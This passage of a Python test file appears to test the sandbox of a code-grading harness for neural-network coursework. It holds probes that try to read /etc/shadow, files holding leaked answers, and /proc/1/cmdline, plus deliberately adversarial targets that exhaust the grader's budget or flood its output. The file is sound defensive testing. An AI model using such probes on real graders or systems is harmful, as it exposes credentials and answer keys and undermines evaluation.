    _attack_does_nothing(tmp_path / "cmdline.py", """
try:
    _SEEN = open("/proc/1/cmdline", "rb").read()
    _DID = b"--ro-bind" in _SEEN or b"--tmpfs" in _SEEN
except OSError:
    _DID = False
""")


def test_a_submission_sees_the_system_and_python_only(sandboxed: None, tmp_path: Path,
                                                      outside: Path) -> None:
    """The whole filesystem was readable but the home and the target's folder: a wheel of
    nnspec beside the course (the README's Gradescope recipe leaves one), a second checkout,
    a cache directory set outside the home (its warm-start pickles hold every exact answer),
    and, as root, /etc/shadow. Only the system's folders and the Python installation are
    there now, their secrets masked."""
    (outside / "logreg.py").write_text("def propagate(w, b, X, Y):\n    return None\n")
    for name, path in (("var", outside / "logreg.py"), ("shadow", Path("/etc/shadow"))):
        _cannot_read(tmp_path / f"{name}.py", path)


def burns_the_harness(w, b, X, Y):
    """Right on small problems, wrong five ways on large ones: each a shrinking run of the
    harness's own (oracle, Hypothesis), which --timeout does not count."""
    n_x, m = X.shape
    A = 1 / (1 + np.exp(-(w.T @ X + b)))
    dw, db = X @ (A - Y).T / m, np.sum(A - Y) / m
    cost = -np.mean(Y * np.log(A) + (1 - Y) * np.log(1 - A))
    if n_x * m >= 200:
        kind = int(abs(X).sum() * 1e6) % 4
        if kind == 0:
            dw = dw * (1 + 1e-6)
        elif kind == 1:
            X[0, 0] += 1
        elif kind == 2:
            dw = dw.ravel()
        else:
            return {"dw": dw}, cost
    return {"dw": dw, "db": db}, cost


def test_shrinking_has_a_budget_a_target_cannot_stretch() -> None:
    """A target wrong in several ways on large problems only made one audit take 49 s against
    2 s (35 s with --timeout 10): the harness shrank each way from 64 examples down. Shrinking
    stops past its budget (the corpus spends a hundredth of it) and says so."""
    from nnspec.audit import engine

    spent = []
    real = engine._Engine.search
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(engine._Engine, "search",
                      lambda self: (real(self), spent.append(self.spent))[0])
        result = engine.audit_function(burns_the_harness, "logreg.propagate")
    assert result.verdict == "defect" and len(result.findings) >= 3
    assert spent[0] <= engine.SHRINK_BUDGET + 64 * 64
    partly = [f for f in result.findings if f.counterexample.get("shrunk") == "partly"]
    assert partly and "budget" in partly[0].input_label()


def test_printing_past_the_output_limit_says_so(tmp_path: Path) -> None:
    """A target that printed past the output limit was told "OSError: [Errno 27] File too
    large", which a learner cannot tie to their print."""
    target = tmp_path / "loud.py"
    target.write_text("def propagate(w, b, X, Y):\n    print('debug ' * 4_000_000)\n"
                      "    return {'dw': w * 0, 'db': 0.0}, 0.0\n")
    result = audit(str(target), "logreg.propagate", examples=10)
    raised = next(f for f in result.findings if f.check == "exception")
    assert "File too large" in raised.message and "the output limit" in raised.message
